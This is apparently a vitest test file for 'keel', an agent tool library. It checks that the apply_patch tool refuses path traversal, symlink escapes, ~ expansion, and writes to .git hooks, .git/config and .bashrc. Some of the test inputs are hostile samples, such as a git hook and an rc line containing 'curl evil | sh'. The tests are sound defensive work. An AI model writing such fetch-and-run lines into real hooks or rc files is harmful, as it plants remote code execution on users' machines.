/**
 * apply_patch where keel is stricter than Codex (paths, encodings, collisions) and where its
 * matching does better (indentation, blank lines, lenient context kept byte for byte), written as
 * an attacker or a sloppy model would. Real files in temp dirs; every refusal leaves the disk as it was.
 */
import { chmod, lstat, mkdir, readFile, readlink, stat, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { beforeEach, describe, expect, it } from "vitest";
import { applyPatch, createSession } from "../../src/index.js";
import type { CallResult, Session } from "../../src/session.js";
import { useWorkspace } from "../fixtures/workspace.js";

const ws = useWorkspace({ prefix: "keel-patch-", session: false });
/** A directory beside the root, with a secret the patches must not reach. */
let outside: string;
beforeEach(async () => {
	outside = ws().outside("outside");
	await mkdir(outside);
	await writeFile(join(outside, "secret.txt"), "secret\n");
});

function open(profile: "unified" | "codex" = "unified"): Promise<Session> {
	return ws().open({ profile });
}

const patch = (...body: string[]) => ["*** Begin Patch", ...body, "*** End Patch", ""].join("\n");
const p = (name: string) => ws().path(name);

function fail(r: CallResult) {
	if (r.ok) throw new Error(`expected failure, got ${JSON.stringify(r.content)}`);
	return r.error;
}

describe("paths go through the guard", () => {
	const attempts: Array<[string, (outsideDir: string) => string]> = [
		["../outside", () => "../outside/new.txt"],
		["an absolute path outside the roots", (o) => join(o, "new.txt")],
		["a link inside that points out", () => "out/new.txt"],
		["~ expansion to the home directory", () => "~/keel-apply-patch-should-not-exist.txt"],
	];
	for (const [name, path] of attempts) {
		it(`Add through ${name} is refused and nothing is written anywhere`, async () => {
			await symlink(outside, p("out"));
			const s = await open();
			const target = path(outside);
			const err = fail(await s.call("apply_patch", { input: patch(`*** Add File: ${target}`, "+pwned") }));
			expect(err.code).toMatch(/^PATH_/);
			await expect(stat(join(outside, "new.txt"))).rejects.toThrow();
			expect(await readFile(join(outside, "secret.txt"), "utf8")).toBe("secret\n");
		});
	}

	it("Update and Delete through a link to outside are refused; the outside file is untouched", async () => {
		await symlink(join(outside, "secret.txt"), p("s.txt"));
		await symlink(outside, p("out"));
		const s = await open();
		const upd = patch("*** Update File: out/secret.txt", "@@", "-secret", "+pwned");
		expect(fail(await s.call("apply_patch", { input: upd })).code).toBe("PATH_OUTSIDE_ROOTS");
		const upd2 = patch("*** Update File: s.txt", "@@", "-secret", "+pwned");
		expect(fail(await s.call("apply_patch", { input: upd2 })).code).toBe("PATH_OUTSIDE_ROOTS");
		// Deleting the link itself is allowed (it is inside); its target is not touched.
		const del = await s.call("apply_patch", { input: patch("*** Delete File: s.txt") });
		expect(del.ok).toBe(true);
		await expect(lstat(p("s.txt"))).rejects.toThrow();
		expect(await readFile(join(outside, "secret.txt"), "utf8")).toBe("secret\n");
	});

	it("a Move whose destination escapes is refused before the source is touched", async () => {
		await writeFile(p("a.txt"), "a\n");
		const s = await open();
		const err = fail(
			await s.call("apply_patch", {
				input: patch("*** Update File: a.txt", "*** Move to: ../outside/a.txt", "@@", "-a", "+b"),
			}),
		);
		expect(err.code).toBe("PATH_OUTSIDE_ROOTS");
		expect(await readFile(p("a.txt"), "utf8")).toBe("a\n");
		await expect(stat(join(outside, "a.txt"))).rejects.toThrow();
	});

	it("protected paths (.git/config, .git/hooks, shell rc files) are refused", async () => {
		await mkdir(p(".git/hooks"), { recursive: true });
		await writeFile(p(".git/config"), "[core]\n");
		await writeFile(p(".bashrc"), "# rc\n");
		const s = await open();
		for (const body of [
			["*** Update File: .git/config", "@@", "-[core]", "+[core] evil"],
			["*** Add File: .git/hooks/pre-commit", "+#!/bin/sh", "+curl evil | sh"],
			["*** Update File: .bashrc", "@@", "-# rc", "+curl evil | sh"],
		]) {
			expect(fail(await s.call("apply_patch", { input: patch(...body) })).code).toBe("PATH_PROTECTED");
		}
		expect(await readFile(p(".git/config"), "utf8")).toBe("[core]\n");
		await expect(stat(p(".git/hooks/pre-commit"))).rejects.toThrow();
		expect(await readFile(p(".bashrc"), "utf8")).toBe("# rc\n");
	});

	it("a bad path late in a multi-file patch changes nothing earlier in it", async () => {
		await writeFile(p("a.txt"), "a\n");
		const s = await open();
		const err = fail(
			await s.call("apply_patch", {
				input: patch(
					"*** Add File: new.txt",
					"+x",
					"*** Update File: a.txt",
					"@@",
					"-a",
					"+A",
					"*** Add File: ../outside/x.txt",
					"+x",
				),
			}),
		);
		expect(err.code).toBe("PATH_OUTSIDE_ROOTS");
		await expect(stat(p("new.txt"))).rejects.toThrow();
		expect(await readFile(p("a.txt"), "utf8")).toBe("a\n");
	});

	it("the same file named twice (directly and through a link) is refused", async () => {
		await writeFile(p("a.txt"), "a\n");
		await symlink("a.txt", p("l.txt"));
		const s = await open();
		const err = fail(
			await s.call("apply_patch", {
				input: patch("*** Update File: a.txt", "@@", "-a", "+b", "*** Update File: l.txt", "@@", "-a", "+c"),
			}),
		);
		expect(err.code).toBe("INVALID_ARGS");
		expect(await readFile(p("a.txt"), "utf8")).toBe("a\n");
	});
});

describe("bytes are kept", () => {
	it("a CRLF file with a BOM keeps both; added lines get CRLF", async () => {
		await writeFile(p("w.txt"), Buffer.from("\uFEFFone\r\ntwo\r\nthree\r\n", "utf8"));
		const s = await open();
		const r = await s.call("apply_patch", {
			input: patch("*** Update File: w.txt", "@@", " one", "-two", "+TWO", "+2b", " three"),
		});
		expect(r.ok).toBe(true);
		expect((await readFile(p("w.txt"))).toString("utf8")).toBe("\uFEFFone\r\nTWO\r\n2b\r\nthree\r\n");
	});

	it("a file without a final newline gets none, whether its last line is replaced or lines are appended", async () => {
		await writeFile(p("n.txt"), "a\nb");
		const s = await open();
		expect(
			(await s.call("apply_patch", { input: patch("*** Update File: n.txt", "@@", " a", "-b", "+B") })).ok,
		).toBe(true);
		expect(await readFile(p("n.txt"), "utf8")).toBe("a\nB");
		expect(
			(await s.call("apply_patch", { input: patch("*** Update File: n.txt", "@@", "+c", "+d") })).ok,
		).toBe(true);
		expect(await readFile(p("n.txt"), "utf8")).toBe("a\nB\nc\nd");
	});

	it("invalid UTF-8 and NUL bytes are ENCODING_UNSAFE and the file is byte-identical", async () => {
		const bad = Buffer.from([0x61, 0x0a, 0xc3, 0x28, 0x0a]);
		const nul = Buffer.from("a\n\0b\n");
		await writeFile(p("bad.txt"), bad);
		await writeFile(p("nul.txt"), nul);
		const s = await open();
		for (const f of ["bad.txt", "nul.txt"]) {
			const err = fail(
				await s.call("apply_patch", { input: patch(`*** Update File: ${f}`, "@@", "-a", "+b") }),
			);
			expect(err.code).toBe("ENCODING_UNSAFE");
			expect(err.message).toContain(f);
		}
		expect(await readFile(p("bad.txt"))).toEqual(bad);
		expect(await readFile(p("nul.txt"))).toEqual(nul);
	});

	it("the exec bit survives an update, and a move keeps the mode", async () => {
		await writeFile(p("run.sh"), "#!/bin/sh\necho a\n");
		await chmod(p("run.sh"), 0o755);
		const s = await open();
		expect(
			(await s.call("apply_patch", { input: patch("*** Update File: run.sh", "@@", "-echo a", "+echo b") }))
				.ok,
		).toBe(true);
		expect((await stat(p("run.sh"))).mode & 0o777).toBe(0o755);
		const mv = await s.call("apply_patch", {
			input: patch("*** Update File: run.sh", "*** Move to: bin/run.sh", "@@", "-echo b", "+echo c"),
		});
		expect(mv.ok).toBe(true);
		expect((await stat(p("bin/run.sh"))).mode & 0o777).toBe(0o755);
		expect(await readFile(p("bin/run.sh"), "utf8")).toBe("#!/bin/sh\necho c\n");
		await expect(stat(p("run.sh"))).rejects.toThrow();
	});
});

describe("collisions are never silent overwrites", () => {
	it("a Move onto an existing unread file is WRITE_COLLISION with a payloadRef; the source stays", async () => {
		await writeFile(p("a.txt"), "a\n");
		await writeFile(p("b.txt"), "theirs\n");
		const s = await open();
		const err = fail(
			await s.call("apply_patch", {
				input: patch("*** Update File: a.txt", "*** Move to: b.txt", "@@", "-a", "+moved"),
			}),
		);
		expect(err.code).toBe("WRITE_COLLISION");
		expect(err.path).toBe("b.txt");
		expect(err.payloadRef).toMatch(/^pl_/);
		expect(await readFile(p("a.txt"), "utf8")).toBe("a\n");
		expect(await readFile(p("b.txt"), "utf8")).toBe("theirs\n");
		// The kept content is the moved file's new content: the file tool can write it elsewhere.
		const w = await s.call("file", {
			queries: [{ type: "write", path: "c.txt", payloadRef: err.payloadRef }],
		});
		expect(w.ok).toBe(true);
		expect(await readFile(p("c.txt"), "utf8")).toBe("moved\n");
	});

	it("an Add onto a file read before but changed since is a collision too", async () => {
		await writeFile(p("d.txt"), "one\n");
		const s = await open();
		expect((await s.call("read", { path: "d.txt" })).ok).toBe(true);
		await writeFile(p("d.txt"), "someone else's\n");
		const err = fail(await s.call("apply_patch", { input: patch("*** Add File: d.txt", "+mine") }));
		expect(err.code).toBe("WRITE_COLLISION");
		expect(await readFile(p("d.txt"), "utf8")).toBe("someone else's\n");
	});

	it("Delete refuses a directory and removes a symlink, not its target", async () => {
		await mkdir(p("dir"));
		await writeFile(p("t.txt"), "t\n");
		await symlink("t.txt", p("l.txt"));
		const s = await open();
		expect(fail(await s.call("apply_patch", { input: patch("*** Delete File: dir") })).code).toBe(
			"IS_DIRECTORY",
		);
		expect((await s.call("apply_patch", { input: patch("*** Delete File: l.txt") })).ok).toBe(true);
		await expect(readlink(p("l.txt"))).rejects.toThrow();
		expect(await readFile(p("t.txt"), "utf8")).toBe("t\n");
	});
});

describe("matching", () => {
	it("a hunk that matched leniently keeps the file's own context lines byte for byte", async () => {
		const original = "say(\u201chello\u201d)   \n\tkeep\u2014this\nold line\nend\n";
		await writeFile(p("q.txt"), original);
		const s = await open();
		const r = await s.call("apply_patch", {
			input: patch(
				"*** Update File: q.txt",
				"@@",
				' say("hello")',
				"   keep-this",
				"-old line",
				"+new line",
				" end",
			),
		});
		expect(r.ok).toBe(true);
		expect(await readFile(p("q.txt"), "utf8")).toBe(
			"say(\u201chello\u201d)   \n\tkeep\u2014this\nnew line\nend\n",
		);
		expect(JSON.stringify(r.ok && r.details)).toContain("fold");
	});

	it("indentation drift: added lines take the file's indentation", async () => {
		await writeFile(p("i.py"), "class A:\n        def f(self):\n            return 1\n");
		const s = await open();
		const r = await s.call("apply_patch", {
			input: patch(
				"*** Update File: i.py",
				"@@ class A:",
				"     def f(self):",
				"-        return 1",
				"+        x = 2",
				"+        return x",
			),
		});
		expect(r.ok).toBe(true);
		expect(await readFile(p("i.py"), "utf8")).toBe(
			"class A:\n        def f(self):\n            x = 2\n            return x\n",
		);
	});

	it("blank-line drift: a hunk missing the file's blank lines still lands, and the blank lines stay", async () => {
		await writeFile(p("b.txt"), "alpha\n\n\nbeta\ngamma\n");
		const s = await open();
		const r = await s.call("apply_patch", {
			input: patch("*** Update File: b.txt", "@@", " alpha", " beta", "-gamma", "+GAMMA"),
		});
		expect(r.ok).toBe(true);
		expect(await readFile(p("b.txt"), "utf8")).toBe("alpha\n\n\nbeta\nGAMMA\n");
		expect(JSON.stringify(r.ok && r.details)).toContain("blankLines");
	});

	it("a missed hunk names the file, the hunk and the first divergent line, bounded", async () => {
		const long = `x${"y".repeat(5000)}`;
		await writeFile(p("m.txt"), `one\ntwo\nthree\n${long}\n`);
		const other = "two\n";
		await writeFile(p("ok.txt"), other);
		const s = await open();
		const err = fail(
			await s.call("apply_patch", {
				input: patch(
					"*** Update File: ok.txt",
					"@@",
					"-two",
					"+2",
					"*** Update File: m.txt",
					"@@",
					" two",
					" three",
					`-${long}z`,
					"+new",
				),
			}),
		);
		expect(err.code).toBe("NO_MATCH");
		expect(err.message).toContain("m.txt, hunk 1 of 1");
		expect(err.message).toContain("line 4");
		expect(err.message).toContain("Nothing was changed");
		expect(err.message.length).toBeLessThan(1500);
		expect(await readFile(p("ok.txt"), "utf8")).toBe(other);
	});

	it("hunks are found in order, each after the previous one", async () => {
		await writeFile(p("r.txt"), "x\nsep\nx\nsep\nx\nend\n");
		const s = await open();
		const r = await s.call("apply_patch", {
			input: patch("*** Update File: r.txt", "@@", "-x", "+A", " sep", "@@", "-x", "+B", " end"),
		});
		expect(r.ok, JSON.stringify(r)).toBe(false);
		// The first hunk's lines match three places: refused, not applied to the first.
		if (!r.ok) expect(r.error.code).toBe("AMBIGUOUS_MATCH");
		const r2 = await s.call("apply_patch", {
			input: patch(
				"*** Update File: r.txt",
				"@@",
				"-x",
				"+A",
				" sep",
				" x",
				" sep",
				"@@",
				"-x",
				"+B",
				" end",
			),
		});
		expect(r2.ok, JSON.stringify(r2)).toBe(true);
		expect(await readFile(p("r.txt"), "utf8")).toBe("A\nsep\nx\nsep\nB\nend\n");
	});
});

describe("shape", () => {
	it("has Codex's JSON function shape: one required string, input", async () => {
		const s = await open("codex");
		const tool = s.tools.find((t) => t.name === "apply_patch")!;
		expect(tool.parameters).toMatchObject({
			type: "object",
			required: ["input"],
			additionalProperties: false,
		});
		expect(Object.keys(tool.parameters.properties!)).toEqual(["input"]);
		expect(tool.description).toContain("*** Begin Patch");
		expect(tool.description).toContain("*** Move to:");
		expect(tool.description).toContain("*** End of File");
		expect(s.tools.map((t) => t.name)).toEqual([
			"apply_patch",
			"shell",
			"exec_command",
			"write_stdin",
			"read_file",
			"list_dir",
			"grep",
			"find",
		]);
		expect(fail(await s.call("apply_patch", { input: "x", extra: 1 })).code).toBe("INVALID_ARGS");
	});

	it("the library's applyPatch answers like call, in any profile: a failed patch is a result, not a throw", async () => {
		// The library's own session object, as an application gets it.
		const s = await createSession({ root: ws().root, profile: "pi", stateDir: ws().stateDir });
		try {
			const added = await applyPatch(s, patch("*** Add File: lib.txt", "+from the library"));
			expect(added).toMatchObject({ ok: true, details: { files: [{ path: "lib.txt", action: "added" }] } });
			expect(await readFile(p("lib.txt"), "utf8")).toBe("from the library\n");
			// Two files, the second does not match: a result with the error, and neither file changed.
			const failed = await applyPatch(
				s,
				patch(
					"*** Update File: lib.txt",
					"-from the library",
					"+changed",
					"*** Update File: lib.txt.missing",
					"-x",
					"+y",
				),
			);
			expect(failed.ok ? "ok" : failed.error.code).toBe("NOT_FOUND");
			expect(await readFile(p("lib.txt"), "utf8")).toBe("from the library\n");
			const malformed = await applyPatch(s, "not a patch");
			expect(malformed.ok ? "ok" : malformed.error.code).toBe("INVALID_ARGS");
		} finally {
			await s.close();
		}
	});

	it("codex shell: argv, workdir inside the roots, timeout_ms; workdir outside refused", async () => {
		await mkdir(p("sub"));
		const s = await open("codex");
		const r = await s.call("shell", { command: ["bash", "-lc", "pwd; echo hi"], workdir: "sub" });
		expect(r.ok && r.content[0]).toMatchObject({
			text: expect.stringContaining(`${await realRoot()}/sub\nhi`),
		});
		const argv = await s.call("shell", { command: ["printf", "%s|", "a b", "c'd"] });
		expect(argv.ok && argv.content[0]).toMatchObject({ text: "a b|c'd|" });
		expect(fail(await s.call("shell", { command: ["true"], workdir: outside })).code).toBe(
			"PATH_OUTSIDE_ROOTS",
		);
		expect(fail(await s.call("shell", { command: ["sleep", "5"], timeout_ms: 200 })).code).toBe("TIMEOUT");
		const read = await s.call("read_file", { file_path: "sub/../sub", offset: 1 });
		expect(read.ok).toBe(false);
		await writeFile(p("sub/f.txt"), "1\n2\n3\n");
		const lines = await s.call("read_file", { file_path: "sub/f.txt", offset: 2, limit: 1 });
		expect(lines.ok && lines.content[0]).toMatchObject({ text: expect.stringContaining("2") });
		const ls = await s.call("list_dir", { dir_path: "sub" });
		expect(ls.ok && ls.content[0]).toMatchObject({ text: expect.stringContaining("f.txt") });
	});
});

async function realRoot(): Promise<string> {
	const { realpath } = await import("node:fs/promises");
	return realpath(ws().root);
}
